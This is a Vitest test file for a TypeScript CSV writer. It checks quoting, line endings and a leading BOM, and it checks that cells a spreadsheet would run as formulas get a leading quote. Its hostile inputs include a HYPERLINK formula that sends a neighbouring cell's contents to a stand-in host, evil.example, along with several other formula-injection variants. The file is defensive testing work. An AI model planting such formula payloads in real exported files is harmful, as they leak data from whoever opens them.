import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv-writer.ts';

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks, leaves the rest bare, and starts with a BOM', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          [1, null],
          ['سطر\nثان', 'ok'],
          ['cr\ronly', ''],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n1,\r\n"سطر\nثان",ok\r\n"cr\ronly",\r\n');
  });

  it('writes text that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&B2,"Open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'];
    const csv = toCsv(['cell'], [...hostile.map((h) => [h]), [-5], [-0.5], ['safe = text'], ['']]);
    const cells = (parse(csv, { bom: true, relax_quotes: false }) as string[][]).map((r) => r[0]);
    expect(cells).toEqual(['cell', ...hostile.map((h) => `'${h}`), '-5', '-0.5', 'safe = text', '']);
  });
});
